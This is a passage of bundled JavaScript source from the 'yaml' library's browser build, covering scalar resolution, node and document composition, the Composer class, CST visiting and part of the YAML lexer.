// node_modules/yaml/browser/dist/compose/resolve-flow-scalar.js
function resolveFlowScalar(scalar, strict, onError) {
  const { offset, type, source, end } = scalar;
  let _type;
  let value;
  const _onError = (rel, code, msg) => onError(offset + rel, code, msg);
  switch (type) {
    case "scalar":
      _type = Scalar.PLAIN;
      value = plainValue(source, _onError);
      break;
    case "single-quoted-scalar":
      _type = Scalar.QUOTE_SINGLE;
      value = singleQuotedValue(source, _onError);
      break;
    case "double-quoted-scalar":
      _type = Scalar.QUOTE_DOUBLE;
      value = doubleQuotedValue(source, _onError);
      break;
    /* istanbul ignore next should not happen */
    default:
      onError(scalar, "UNEXPECTED_TOKEN", `Expected a flow scalar value, but found: ${type}`);
      return {
        value: "",
        type: null,
        comment: "",
        range: [offset, offset + source.length, offset + source.length]
      };
  }
  const valueEnd = offset + source.length;
  const re = resolveEnd(end, valueEnd, strict, onError);
  return {
    value,
    type: _type,
    comment: re.comment,
    range: [offset, valueEnd, re.offset]
  };
}
function plainValue(source, onError) {
  let badChar = "";
  switch (source[0]) {
    /* istanbul ignore next should not happen */
    case "	":
      badChar = "a tab character";
      break;
    case ",":
      badChar = "flow indicator character ,";
      break;
    case "%":
      badChar = "directive indicator character %";
      break;
    case "|":
    case ">": {
      badChar = `block scalar indicator ${source[0]}`;
      break;
    }
    case "@":
    case "`": {
      badChar = `reserved character ${source[0]}`;
      break;
    }
  }
  if (badChar)
    onError(0, "BAD_SCALAR_START", `Plain value cannot start with ${badChar}`);
  return unfoldLines(source);
}
function singleQuotedValue(source, onError) {
  if (source[source.length - 1] !== "'" || source.length === 1)
    onError(source.length, "MISSING_CHAR", "Missing closing 'quote");
  return unfoldLines(source.slice(1, -1)).replace(/''/g, "'");
}
function unfoldLines(source) {
  const line = /(.*?)\r?\n/sy;
  let match = line.exec(source);
  if (!match)
    return source;
  let trimEnd, trimBoth;
  try {
    trimEnd = new RegExp("(?<![ 	])[ 	]+$");
    trimBoth = new RegExp("^[ 	]+|(?<![ 	])[ 	]+$", "g");
  } catch {
    trimEnd = /[ \t]+$/;
    trimBoth = /^[ \t]+|[ \t]+$/g;
  }
  let res = match[1].replace(trimEnd, "");
  let sep5 = " ";
  let pos = line.lastIndex;
  while (match = line.exec(source)) {
    const lm = match[1].replace(trimBoth, "");
    if (lm === "") {
      if (sep5 === "\n")
        res += sep5;
      else
        sep5 = "\n";
    } else {
      res += sep5 + lm;
      sep5 = " ";
    }
    pos = line.lastIndex;
  }
  const last = /[ \t]*(.*)/sy;
  last.lastIndex = pos;
  match = last.exec(source);
  return res + sep5 + (match?.[1] ?? "");
}
function doubleQuotedValue(source, onError) {
  let res = "";
  for (let i = 1; i < source.length - 1; ++i) {
    const ch = source[i];
    if (ch === "\r" && source[i + 1] === "\n")
      continue;
    if (ch === "\n") {
      const { fold, offset } = foldNewline(source, i);
      res += fold;
      i = offset;
    } else if (ch === "\\") {
      let next = source[++i];
      const cc = escapeCodes[next];
      if (cc)
        res += cc;
      else if (next === "\n") {
        next = source[i + 1];
        while (next === " " || next === "	")
          next = source[++i + 1];
      } else if (next === "\r" && source[i + 1] === "\n") {
        next = source[++i + 1];
        while (next === " " || next === "	")
          next = source[++i + 1];
      } else if (next === "x" || next === "u" || next === "U") {
        const length = next === "x" ? 2 : next === "u" ? 4 : 8;
        res += parseCharCode(source, i + 1, length, onError);
        i += length;
      } else {
        const raw = source.substr(i - 1, 2);
        onError(i - 1, "BAD_DQ_ESCAPE", `Invalid escape sequence ${raw}`);
        res += raw;
      }
    } else if (ch === " " || ch === "	") {
      const wsStart = i;
      let next = source[i + 1];
      while (next === " " || next === "	")
        next = source[++i + 1];
      if (next !== "\n" && !(next === "\r" && source[i + 2] === "\n"))
        res += i > wsStart ? source.slice(wsStart, i + 1) : ch;
    } else {
      res += ch;
    }
  }
  if (source[source.length - 1] !== '"' || source.length === 1)
    onError(source.length, "MISSING_CHAR", 'Missing closing "quote');
  return res;
}
function foldNewline(source, offset) {
  let fold = "";
  let ch = source[offset + 1];
  while (ch === " " || ch === "	" || ch === "\n" || ch === "\r") {
    if (ch === "\r" && source[offset + 2] !== "\n")
      break;
    if (ch === "\n")
      fold += "\n";
    offset += 1;
    ch = source[offset + 1];
  }
  if (!fold)
    fold = " ";
  return { fold, offset };
}
var escapeCodes = {
  "0": "\0",
  // null character
  a: "\x07",
  // bell character
  b: "\b",
  // backspace
  e: "\x1B",
  // escape character
  f: "\f",
  // form feed
  n: "\n",
  // line feed
  r: "\r",
  // carriage return
  t: "	",
  // horizontal tab
  v: "\v",
  // vertical tab
  N: "",
  // Unicode next line
  _: " ",
  // Unicode non-breaking space
  L: "\u2028",
  // Unicode line separator
  P: "\u2029",
  // Unicode paragraph separator
  " ": " ",
  '"': '"',
  "/": "/",
  "\\": "\\",
  "	": "	"
};
function parseCharCode(source, offset, length, onError) {
  const cc = source.substr(offset, length);
  const ok2 = cc.length === length && /^[0-9a-fA-F]+$/.test(cc);
  const code = ok2 ? parseInt(cc, 16) : NaN;
  try {
    return String.fromCodePoint(code);
  } catch {
    const raw = source.substr(offset - 2, length + 2);
    onError(offset - 2, "BAD_DQ_ESCAPE", `Invalid escape sequence ${raw}`);
    return raw;
  }
}

// node_modules/yaml/browser/dist/compose/compose-scalar.js
function composeScalar(ctx, token, tagToken, onError) {
  const { value, type, comment, range } = token.type === "block-scalar" ? resolveBlockScalar(ctx, token, onError) : resolveFlowScalar(token, ctx.options.strict, onError);
  const tagName = tagToken ? ctx.directives.tagName(tagToken.source, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg)) : null;
  let tag;
  if (ctx.options.stringKeys && ctx.atKey) {
    tag = ctx.schema[SCALAR];
  } else if (tagName)
    tag = findScalarTagByName(ctx.schema, value, tagName, tagToken, onError);
  else if (token.type === "scalar")
    tag = findScalarTagByTest(ctx, value, token, onError);
  else
    tag = ctx.schema[SCALAR];
  let scalar;
  try {
    const res = tag.resolve(value, (msg) => onError(tagToken ?? token, "TAG_RESOLVE_FAILED", msg), ctx.options);
    scalar = isScalar(res) ? res : new Scalar(res);
  } catch (error) {
    const msg = error instanceof Error ? error.message : String(error);
    onError(tagToken ?? token, "TAG_RESOLVE_FAILED", msg);
    scalar = new Scalar(value);
  }
  scalar.range = range;
  scalar.source = value;
  if (type)
    scalar.type = type;
  if (tagName)
    scalar.tag = tagName;
  if (tag.format)
    scalar.format = tag.format;
  if (comment)
    scalar.comment = comment;
  return scalar;
}
function findScalarTagByName(schema4, value, tagName, tagToken, onError) {
  if (tagName === "!")
    return schema4[SCALAR];
  const matchWithTest = [];
  for (const tag of schema4.tags) {
    if (!tag.collection && tag.tag === tagName) {
      if (tag.default && tag.test)
        matchWithTest.push(tag);
      else
        return tag;
    }
  }
  for (const tag of matchWithTest)
    if (tag.test?.test(value))
      return tag;
  const kt = schema4.knownTags[tagName];
  if (kt && !kt.collection) {
    schema4.tags.push(Object.assign({}, kt, { default: false, test: void 0 }));
    return kt;
  }
  onError(tagToken, "TAG_RESOLVE_FAILED", `Unresolved tag: ${tagName}`, tagName !== "tag:yaml.org,2002:str");
  return schema4[SCALAR];
}
function findScalarTagByTest({ atKey, directives, schema: schema4 }, value, token, onError) {
  const tag = schema4.tags.find((tag2) => (tag2.default === true || atKey && tag2.default === "key") && tag2.test?.test(value)) || schema4[SCALAR];
  if (schema4.compat) {
    const compat = schema4.compat.find((tag2) => tag2.default && tag2.test?.test(value)) ?? schema4[SCALAR];
    if (tag.tag !== compat.tag) {
      const ts = directives.tagString(tag.tag);
      const cs = directives.tagString(compat.tag);
      const msg = `Value may be parsed as either ${ts} or ${cs}`;
      onError(token, "TAG_RESOLVE_FAILED", msg, true);
    }
  }
  return tag;
}

// node_modules/yaml/browser/dist/compose/util-empty-scalar-position.js
function emptyScalarPosition(offset, before, pos) {
  if (before) {
    pos ?? (pos = before.length);
    for (let i = pos - 1; i >= 0; --i) {
      let st = before[i];
      switch (st.type) {
        case "space":
        case "comment":
        case "newline":
          offset -= st.source.length;
          continue;
      }
      st = before[++i];
      while (st?.type === "space") {
        offset += st.source.length;
        st = before[++i];
      }
      break;
    }
  }
  return offset;
}

// node_modules/yaml/browser/dist/compose/compose-node.js
var CN = { composeNode, composeEmptyNode };
function composeNode(ctx, token, props, onError) {
  const atKey = ctx.atKey;
  const { spaceBefore, comment, anchor, tag } = props;
  let node;
  let isSrcToken = true;
  switch (token.type) {
    case "alias":
      node = composeAlias(ctx, token, onError);
      if (anchor || tag)
        onError(token, "ALIAS_PROPS", "An alias node must not specify any properties");
      break;
    case "scalar":
    case "single-quoted-scalar":
    case "double-quoted-scalar":
    case "block-scalar":
      node = composeScalar(ctx, token, tag, onError);
      if (anchor)
        node.anchor = anchor.source.substring(1);
      break;
    case "block-map":
    case "block-seq":
    case "flow-collection":
      try {
        node = composeCollection(CN, ctx, token, props, onError);
        if (anchor)
          node.anchor = anchor.source.substring(1);
      } catch (error) {
        const message = error instanceof Error ? error.message : String(error);
        onError(token, "RESOURCE_EXHAUSTION", message);
      }
      break;
    default: {
      const message = token.type === "error" ? token.message : `Unsupported token (type: ${token.type})`;
      onError(token, "UNEXPECTED_TOKEN", message);
      isSrcToken = false;
    }
  }
  node ?? (node = composeEmptyNode(ctx, token.offset, void 0, null, props, onError));
  if (anchor && node.anchor === "")
    onError(anchor, "BAD_ALIAS", "Anchor cannot be an empty string");
  if (atKey && ctx.options.stringKeys && (!isScalar(node) || typeof node.value !== "string" || node.tag && node.tag !== "tag:yaml.org,2002:str")) {
    const msg = "With stringKeys, all keys must be strings";
    onError(tag ?? token, "NON_STRING_KEY", msg);
  }
  if (spaceBefore)
    node.spaceBefore = true;
  if (comment) {
    if (token.type === "scalar" && token.source === "")
      node.comment = comment;
    else
      node.commentBefore = comment;
  }
  if (ctx.options.keepSourceTokens && isSrcToken)
    node.srcToken = token;
  return node;
}
function composeEmptyNode(ctx, offset, before, pos, { spaceBefore, comment, anchor, tag, end }, onError) {
  const token = {
    type: "scalar",
    offset: emptyScalarPosition(offset, before, pos),
    indent: -1,
    source: ""
  };
  const node = composeScalar(ctx, token, tag, onError);
  if (anchor) {
    node.anchor = anchor.source.substring(1);
    if (node.anchor === "")
      onError(anchor, "BAD_ALIAS", "Anchor cannot be an empty string");
  }
  if (spaceBefore)
    node.spaceBefore = true;
  if (comment) {
    node.comment = comment;
    node.range[2] = end;
  }
  return node;
}
function composeAlias({ options }, { offset, source, end }, onError) {
  const alias = new Alias(source.substring(1));
  if (alias.source === "")
    onError(offset, "BAD_ALIAS", "Alias cannot be an empty string");
  if (alias.source.endsWith(":"))
    onError(offset + source.length - 1, "BAD_ALIAS", "Alias ending in : is ambiguous", true);
  const valueEnd = offset + source.length;
  const re = resolveEnd(end, valueEnd, options.strict, onError);
  alias.range = [offset, valueEnd, re.offset];
  if (re.comment)
    alias.comment = re.comment;
  return alias;
}

// node_modules/yaml/browser/dist/compose/compose-doc.js
function composeDoc(options, directives, { offset, start, value, end }, onError) {
  const opts = Object.assign({ _directives: directives }, options);
  const doc = new Document(void 0, opts);
  const ctx = {
    atKey: false,
    atRoot: true,
    directives: doc.directives,
    options: doc.options,
    schema: doc.schema
  };
  const props = resolveProps(start, {
    indicator: "doc-start",
    next: value ?? end?.[0],
    offset,
    onError,
    parentIndent: 0,
    startOnNewline: true
  });
  if (props.found) {
    doc.directives.docStart = true;
    if (value && (value.type === "block-map" || value.type === "block-seq") && !props.hasNewline)
      onError(props.end, "MISSING_CHAR", "Block collection cannot start on same line with directives-end marker");
  }
  doc.contents = value ? composeNode(ctx, value, props, onError) : composeEmptyNode(ctx, props.end, start, null, props, onError);
  const contentEnd = doc.contents.range[2];
  const re = resolveEnd(end, contentEnd, false, onError);
  if (re.comment)
    doc.comment = re.comment;
  doc.range = [offset, contentEnd, re.offset];
  return doc;
}

// node_modules/yaml/browser/dist/compose/composer.js
function getErrorPos(src) {
  if (typeof src === "number")
    return [src, src + 1];
  if (Array.isArray(src))
    return src.length === 2 ? src : [src[0], src[1]];
  const { offset, source } = src;
  return [offset, offset + (typeof source === "string" ? source.length : 1)];
}
function parsePrelude(prelude) {
  let comment = "";
  let atComment = false;
  let afterEmptyLine = false;
  for (let i = 0; i < prelude.length; ++i) {
    const source = prelude[i];
    switch (source[0]) {
      case "#":
        comment += (comment === "" ? "" : afterEmptyLine ? "\n\n" : "\n") + (source.substring(1) || " ");
        atComment = true;
        afterEmptyLine = false;
        break;
      case "%":
        if (prelude[i + 1]?.[0] !== "#")
          i += 1;
        atComment = false;
        break;
      default:
        if (!atComment)
          afterEmptyLine = true;
        atComment = false;
    }
  }
  return { comment, afterEmptyLine };
}
var Composer = class {
  constructor(options = {}) {
    this.doc = null;
    this.atDirectives = false;
    this.prelude = [];
    this.errors = [];
    this.warnings = [];
    this.onError = (source, code, message, warning) => {
      const pos = getErrorPos(source);
      if (warning)
        this.warnings.push(new YAMLWarning(pos, code, message));
      else
        this.errors.push(new YAMLParseError(pos, code, message));
    };
    this.directives = new Directives({ version: options.version || "1.2" });
    this.options = options;
  }
  decorate(doc, afterDoc) {
    const { comment, afterEmptyLine } = parsePrelude(this.prelude);
    if (comment) {
      const dc = doc.contents;
      if (afterDoc) {
        doc.comment = doc.comment ? `${doc.comment}
${comment}` : comment;
      } else if (afterEmptyLine || doc.directives.docStart || !dc) {
        doc.commentBefore = comment;
      } else if (isCollection(dc) && !dc.flow && dc.items.length > 0) {
        let it = dc.items[0];
        if (isPair(it))
          it = it.key;
        const cb = it.commentBefore;
        it.commentBefore = cb ? `${comment}
${cb}` : comment;
      } else {
        const cb = dc.commentBefore;
        dc.commentBefore = cb ? `${comment}
${cb}` : comment;
      }
    }
    if (afterDoc) {
      for (let i = 0; i < this.errors.length; ++i)
        doc.errors.push(this.errors[i]);
      for (let i = 0; i < this.warnings.length; ++i)
        doc.warnings.push(this.warnings[i]);
    } else {
      doc.errors = this.errors;
      doc.warnings = this.warnings;
    }
    this.prelude = [];
    this.errors = [];
    this.warnings = [];
  }
  /**
   * Current stream status information.
   *
   * Mostly useful at the end of input for an empty stream.
   */
  streamInfo() {
    return {
      comment: parsePrelude(this.prelude).comment,
      directives: this.directives,
      errors: this.errors,
      warnings: this.warnings
    };
  }
  /**
   * Compose tokens into documents.
   *
   * @param forceDoc - If the stream contains no document, still emit a final document including any comments and directives that would be applied to a subsequent document.
   * @param endOffset - Should be set if `forceDoc` is also set, to set the document range end and to indicate errors correctly.
   */
  *compose(tokens, forceDoc = false, endOffset = -1) {
    for (const token of tokens)
      yield* this.next(token);
    yield* this.end(forceDoc, endOffset);
  }
  /** Advance the composer by one CST token. */
  *next(token) {
    switch (token.type) {
      case "directive":
        this.directives.add(token.source, (offset, message, warning) => {
          const pos = getErrorPos(token);
          pos[0] += offset;
          this.onError(pos, "BAD_DIRECTIVE", message, warning);
        });
        this.prelude.push(token.source);
        this.atDirectives = true;
        break;
      case "document": {
        const doc = composeDoc(this.options, this.directives, token, this.onError);
        if (this.atDirectives && !doc.directives.docStart)
          this.onError(token, "MISSING_CHAR", "Missing directives-end/doc-start indicator line");
        this.decorate(doc, false);
        if (this.doc)
          yield this.doc;
        this.doc = doc;
        this.atDirectives = false;
        break;
      }
      case "byte-order-mark":
      case "space":
        break;
      case "comment":
      case "newline":
        this.prelude.push(token.source);
        break;
      case "error": {
        const msg = token.source ? `${token.message}: ${JSON.stringify(token.source)}` : token.message;
        const error = new YAMLParseError(getErrorPos(token), "UNEXPECTED_TOKEN", msg);
        if (this.atDirectives || !this.doc)
          this.errors.push(error);
        else
          this.doc.errors.push(error);
        break;
      }
      case "doc-end": {
        if (!this.doc) {
          const msg = "Unexpected doc-end without preceding document";
          this.errors.push(new YAMLParseError(getErrorPos(token), "UNEXPECTED_TOKEN", msg));
          break;
        }
        this.doc.directives.docEnd = true;
        const end = resolveEnd(token.end, token.offset + token.source.length, this.doc.options.strict, this.onError);
        this.decorate(this.doc, true);
        if (end.comment) {
          const dc = this.doc.comment;
          this.doc.comment = dc ? `${dc}
${end.comment}` : end.comment;
        }
        this.doc.range[2] = end.offset;
        break;
      }
      default:
        this.errors.push(new YAMLParseError(getErrorPos(token), "UNEXPECTED_TOKEN", `Unsupported token ${token.type}`));
    }
  }
  /**
   * Call at end of input to yield any remaining document.
   *
   * @param forceDoc - If the stream contains no document, still emit a final document including any comments and directives that would be applied to a subsequent document.
   * @param endOffset - Should be set if `forceDoc` is also set, to set the document range end and to indicate errors correctly.
   */
  *end(forceDoc = false, endOffset = -1) {
    if (this.doc) {
      this.decorate(this.doc, true);
      yield this.doc;
      this.doc = null;
    } else if (forceDoc) {
      const opts = Object.assign({ _directives: this.directives }, this.options);
      const doc = new Document(void 0, opts);
      if (this.atDirectives)
        this.onError(endOffset, "MISSING_CHAR", "Missing directives-end indicator line");
      doc.range = [0, endOffset, endOffset];
      this.decorate(doc, false);
      yield doc;
    }
  }
};

// node_modules/yaml/browser/dist/parse/cst-visit.js
var BREAK2 = /* @__PURE__ */ Symbol("break visit");
var SKIP2 = /* @__PURE__ */ Symbol("skip children");
var REMOVE2 = /* @__PURE__ */ Symbol("remove item");
function visit2(cst, visitor) {
  if ("type" in cst && cst.type === "document")
    cst = { start: cst.start, value: cst.value };
  _visit(Object.freeze([]), cst, visitor);
}
visit2.BREAK = BREAK2;
visit2.SKIP = SKIP2;
visit2.REMOVE = REMOVE2;
visit2.itemAtPath = (cst, path) => {
  let item = cst;
  for (const [field, index] of path) {
    const tok = item?.[field];
    if (tok && "items" in tok) {
      item = tok.items[index];
    } else
      return void 0;
  }
  return item;
};
visit2.parentCollection = (cst, path) => {
  const parent = visit2.itemAtPath(cst, path.slice(0, -1));
  const field = path[path.length - 1][0];
  const coll = parent?.[field];
  if (coll && "items" in coll)
    return coll;
  throw new Error("Parent collection not found");
};
function _visit(path, item, visitor) {
  let ctrl = visitor(item, path);
  if (typeof ctrl === "symbol")
    return ctrl;
  for (const field of ["key", "value"]) {
    const token = item[field];
    if (token && "items" in token) {
      for (let i = 0; i < token.items.length; ++i) {
        const ci = _visit(Object.freeze(path.concat([[field, i]])), token.items[i], visitor);
        if (typeof ci === "number")
          i = ci - 1;
        else if (ci === BREAK2)
          return BREAK2;
        else if (ci === REMOVE2) {
          token.items.splice(i, 1);
          i -= 1;
        }
      }
      if (typeof ctrl === "function" && field === "key")
        ctrl = ctrl(item, path);
    }
  }
  return typeof ctrl === "function" ? ctrl(item, path) : ctrl;
}

// node_modules/yaml/browser/dist/parse/cst.js
var BOM = "\uFEFF";
var DOCUMENT = "";
var FLOW_END = "";
var SCALAR2 = "";
function tokenType(source) {
  switch (source) {
    case BOM:
      return "byte-order-mark";
    case DOCUMENT:
      return "doc-mode";
    case FLOW_END:
      return "flow-error-end";
    case SCALAR2:
      return "scalar";
    case "---":
      return "doc-start";
    case "...":
      return "doc-end";
    case "":
    case "\n":
    case "\r\n":
      return "newline";
    case "-":
      return "seq-item-ind";
    case "?":
      return "explicit-key-ind";
    case ":":
      return "map-value-ind";
    case "{":
      return "flow-map-start";
    case "}":
      return "flow-map-end";
    case "[":
      return "flow-seq-start";
    case "]":
      return "flow-seq-end";
    case ",":
      return "comma";
  }
  switch (source[0]) {
    case " ":
    case "	":
      return "space";
    case "#":
      return "comment";
    case "%":
      return "directive-line";
    case "*":
      return "alias";
    case "&":
      return "anchor";
    case "!":
      return "tag";
    case "'":
      return "single-quoted-scalar";
    case '"':
      return "double-quoted-scalar";
    case "|":
    case ">":
      return "block-scalar-header";
  }
  return null;
}

// node_modules/yaml/browser/dist/parse/lexer.js
function isEmpty(ch) {
  switch (ch) {
    case void 0:
    case " ":
    case "\n":
    case "\r":
    case "	":
      return true;
    default:
      return false;
  }
}
var hexDigits = new Set("0123456789ABCDEFabcdef");
var tagChars = new Set("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-#;/?:@&=+$_.!~*'()");
var flowIndicatorChars = new Set(",[]{}");
var invalidAnchorChars = new Set(" ,[]{}\n\r	");
var isNotAnchorChar = (ch) => !ch || invalidAnchorChars.has(ch);
var Lexer = class {
  constructor() {
    this.atEnd = false;
    this.blockScalarIndent = -1;
    this.blockScalarKeep = false;
    this.buffer = "";
    this.flowKey = false;
    this.flowLevel = 0;
    this.indentNext = 0;
    this.indentValue = 0;
    this.lineEndPos = null;
    this.next = null;
    this.pos = 0;
  }
  /**
   * Generate YAML tokens from the `source` string. If `incomplete`,
   * a part of the last line may be left as a buffer for the next call.
   *
   * @returns A generator of lexical tokens
   */
  *lex(source, incomplete = false) {
    if (source) {
      if (typeof source !== "string")
        throw TypeError("source is not a string");
      this.buffer = this.buffer ? this.buffer + source : source;
      this.lineEndPos = null;
    }
    this.atEnd = !incomplete;
    let next = this.next ?? "stream";
    while (next && (incomplete || this.hasChars(1)))
      next = yield* this.parseNext(next);
  }
  atLineEnd() {
    let i = this.pos;
    let ch = this.buffer[i];
    while (ch === " " || ch === "	")
      ch = this.buffer[++i];
    if (!ch || ch === "#" || ch === "\n")
      return true;
    if (ch === "\r")
      return this.buffer[i + 1] === "\n";
    return false;
  }
  charAt(n) {
    return this.buffer[this.pos + n];
  }
  continueScalar(offset) {
    let ch = this.buffer[offset];
    if (this.indentNext > 0) {
      let indent = 0;
      while (ch === " ")
        ch = this.buffer[++indent + offset];
      if (ch === "\r") {
        const next = this.buffer[indent + offset + 1];
        if (next === "\n" || !next && !this.atEnd)
          return offset + indent + 1;
      }
      return ch === "\n" || indent >= this.indentNext || !ch && !this.atEnd ? offset + indent : -1;
    }
    if (ch === "-" || ch === ".") {
      const dt = this.buffer.substr(offset, 3);
      if ((dt === "---" || dt === "...") && isEmpty(this.buffer[offset + 3]))
        return -1;
    }
    return offset;
  }
  getLine() {
    let end = this.lineEndPos;
    if (typeof end !== "number" || end !== -1 && end < this.pos) {
      end = this.buffer.indexOf("\n", this.pos);
      this.lineEndPos = end;
    }
    if (end === -1)
      return this.atEnd ? this.buffer.substring(this.pos) : null;
    if (this.buffer[end - 1] === "\r")
      end -= 1;
    return this.buffer.substring(this.pos, end);
  }
  hasChars(n) {
    return this.pos + n <= this.buffer.length;
  }
  setNext(state) {
    this.buffer = this.buffer.substring(this.pos);
    this.pos = 0;
    this.lineEndPos = null;
    this.next = state;
    return null;
  }
  peek(n) {
    return this.buffer.substr(this.pos, n);
  }
  *parseNext(next) {
    switch (next) {
      case "stream":
        return yield* this.parseStream();
      case "line-start":
        return yield* this.parseLineStart();
      case "block-start":
        return yield* this.parseBlockStart();
      case "doc":
        return yield* this.parseDocument();
      case "flow":
        return yield* this.parseFlowCollection();
      case "quoted-scalar":
        return yield* this.parseQuotedScalar();
      case "block-scalar":
        return yield* this.parseBlockScalar();
      case "plain-scalar":
        return yield* this.parsePlainScalar();
    }
  }
  *parseStream() {
    let line = this.getLine();
    if (line === null)
      return this.setNext("stream");
    if (line[0] === BOM) {
      yield* this.pushCount(1);
      line = line.substring(1);
    }
    if (line[0] === "%") {
      let dirEnd = line.length;
      let cs = line.indexOf("#");
      while (cs !== -1) {
        const ch = line[cs - 1];
        if (ch === " " || ch === "	") {
          dirEnd = cs - 1;
          break;
        } else {
          cs = line.indexOf("#", cs + 1);
        }
      }
      while (true) {
        const ch = line[dirEnd - 1];
        if (ch === " " || ch === "	")
          dirEnd -= 1;
        else
          break;
      }
      const n = (yield* this.pushCount(dirEnd)) + (yield* this.pushSpaces(true));
      yield* this.pushCount(line.length - n);
      this.pushNewline();
      return "stream";
    }
    if (this.atLineEnd()) {
      const sp = yield* this.pushSpaces(true);
      yield* this.pushCount(line.length - sp);
      yield* this.pushNewline();
      return "stream";
    }
    yield DOCUMENT;
    return yield* this.parseLineStart();
  }
  *parseLineStart() {
    const ch = this.charAt(0);
    if (!ch && !this.atEnd)
      return this.setNext("line-start");
    if (ch === "-" || ch === ".") {
      if (!this.atEnd && !this.hasChars(4))
        return this.setNext("line-start");
      const s = this.peek(3);
      if ((s === "---" || s === "...") && isEmpty(this.charAt(3))) {
        yield* this.pushCount(3);
        this.indentValue = 0;
        this.indentNext = 0;
        return s === "---" ? "doc" : "stream";
      }
    }
    this.indentValue = yield* this.pushSpaces(false);
    if (this.indentNext > this.indentValue && !isEmpty(this.charAt(1)))
      this.indentNext = this.indentValue;
    return yield* this.parseBlockStart();
  }
  *parseBlockStart() {
    const [ch0, ch1] = this.peek(2);
    if (!ch1 && !this.atEnd)
      return this.setNext("block-start");
    if ((ch0 === "-" || ch0 === "?" || ch0 === ":") && isEmpty(ch1)) {
      const n = (yield* this.pushCount(1)) + (yield* this.pushSpaces(true));
      this.indentNext = this.indentValue + 1;
      this.indentValue += n;
      return "block-start";
    }
    return "doc";
  }
  *parseDocument() {
    yield* this.pushSpaces(true);
    const line = this.getLine();
    if (line === null)
      return this.setNext("doc");
    let n = yield* this.pushIndicators();
    switch (line[n]) {
      case "#":
        yield* this.pushCount(line.length - n);
      // fallthrough
      case void 0:
        yield* this.pushNewline();
        return yield* this.parseLineStart();
      case "{":
      case "[":
        yield* this.pushCount(1);
        this.flowKey = false;
        this.flowLevel = 1;
        return "flow";
      case "}":
      case "]":
        yield* this.pushCount(1);
        return "doc";
      case "*":
        yield* this.pushUntil(isNotAnchorChar);
        return "doc";
      case '"':
      case "'":
        return yield* this.parseQuotedScalar();
      case "|":
      case ">":
        n += yield* this.parseBlockScalarHeader();
        n += yield* this.pushSpaces(true);
        yield* this.pushCount(line.length - n);
        yield* this.pushNewline();
        return yield* this.parseBlockScalar();
      default:
        return yield* this.parsePlainScalar();
    }
  }
  *parseFlowCollection() {
    let nl, sp;
    let indent = -1;
    do {
      nl = yield* this.pushNewline();
      if (nl > 0) {
        sp = yield* this.pushSpaces(false);
        this.indentValue = indent = sp;
      } else {
        sp = 0;
      }
      sp += yield* this.pushSpaces(true);
    } while (nl + sp > 0);
    const line = this.getLine();
    if (line === null)
      return this.setNext("flow");
    if (indent !== -1 && indent < this.indentNext && line[0] !== "#" || indent === 0 && (line.startsWith("---") || line.startsWith("...")) && isEmpty(line[3])) {
      const atFlowEndMarker = indent === this.indentNext - 1 && this.flowLevel === 1 && (line[0] === "]" || line[0] === "}");
      if (!atFlowEndMarker) {
        this.flowLevel = 0;
        yield FLOW_END;
        return yield* this.parseLineStart();
      }
    }
    let n = 0;
    while (line[n] === ",") {
      n += yield* this.pushCount(1);
      n += yield* this.pushSpaces(true);
      this.flowKey = false;
    }
    n += yield* this.pushIndicators();
    switch (line[n]) {
      case void 0:
        return "flow";
      case "#":
        yield* this.pushCount(line.length - n);
        return "flow";
      case "{":
      case "[":
        yield* this.pushCount(1);
        this.flowKey = false;
        this.flowLevel += 1;
        return "flow";
      case "}":
      case "]":
        yield* this.pushCount(1);
        this.flowKey = true;
        this.flowLevel -= 1;
        return this.flowLevel ? "flow" : "doc";
      case "*":
        yield* this.pushUntil(isNotAnchorChar);
        return "flow";
      case '"':
      case "'":
        this.flowKey = true;
        return yield* this.parseQuotedScalar();
      case ":": {
        const next = this.charAt(1);
        if (this.flowKey || isEmpty(next) || next === ",") {
          this.flowKey = false;
          yield* this.pushCount(1);
          yield* this.pushSpaces(true);
          return "flow";
        }
      }
      // fallthrough
      default:
        this.flowKey = false;
        return yield* this.parsePlainScalar();
    }
  }
  *parseQuotedScalar() {
    const quote2 = this.charAt(0);
    let end = this.buffer.indexOf(quote2, this.pos + 1);
    if (quote2 === "'") {
      while (end !== -1 && this.buffer[end + 1] === "'")
        end = this.buffer.indexOf("'", end + 2);
    } else {
      while (end !== -1) {
        let n = 0;
        while (this.buffer[end - 1 - n] === "\\")
          n += 1;
        if (n % 2 === 0)
          break;
        end = this.buffer.indexOf('"', end + 1);
      }
    }
    const qb = this.buffer.substring(0, end);
    let nl = qb.indexOf("\n", this.pos);
    if (nl !== -1) {
      while (nl !== -1) {
        const cs = this.continueScalar(nl + 1);
        if (cs === -1)
          break;
        nl = qb.indexOf("\n", cs);
      }
      if (nl !== -1) {
        end = nl - (qb[nl - 1] === "\r" ? 2 : 1);
      }
    }
    if (end === -1) {
      if (!this.atEnd)
        return this.setNext("quoted-scalar");
      end = this.buffer.length;
    }
    yield* this.pushToIndex(end + 1, false);
    return this.flowLevel ? "flow" : "doc";
  }
  *parseBlockScalarHeader() {
    this.blockScalarIndent = -1;
    this.blockScalarKeep = false;
    let i = this.pos;
    while (true) {
      const ch = this.buffer[++i];
      if (ch === "+")
        this.blockScalarKeep = true;
      else if (ch > "0" && ch <= "9")
        this.blockScalarIndent = Number(ch) - 1;
      else if (ch !== "-")
        break;
    }
    return yield* this.pushUntil((ch) => isEmpty(ch) || ch === "#");
  }
  *parseBlockScalar() {
    let nl = this.pos - 1;
    let indent = 0;
    let ch;
    loop: for (let i2 = this.pos; ch = this.buffer[i2]; ++i2) {
      switch (ch) {
        case " ":
          indent += 1;
          break;
        case "\n":
          nl = i2;
          indent = 0;
          break;
        case "\r": {
          const next = this.buffer[i2 + 1];
          if (!next && !this.atEnd)
            return this.setNext("block-scalar");
          if (next === "\n")
            break;
        }
        // fallthrough
        default:
          break loop;
      }
    }
    if (!ch && !this.atEnd)
      return this.setNext("block-scalar");
    if (indent >= this.indentNext) {
      if (this.blockScalarIndent === -1)
        this.indentNext = indent;
      else {
        this.indentNext = this.blockScalarIndent + (this.indentNext === 0 ? 1 : this.indentNext);
      }
      do {
        const cs = this.continueScalar(nl + 1);
        if (cs === -1)
          break;
        nl = this.buffer.indexOf("\n", cs);
      } while (nl !== -1);
      if (nl === -1) {
        if (!this.atEnd)
          return this.setNext("block-scalar");
        nl = this.buffer.length;
      }
    }
    let i = nl + 1;
    ch = this.buffer[i];
    while (ch === " ")
      ch = this.buffer[++i];
    if (ch === "	") {
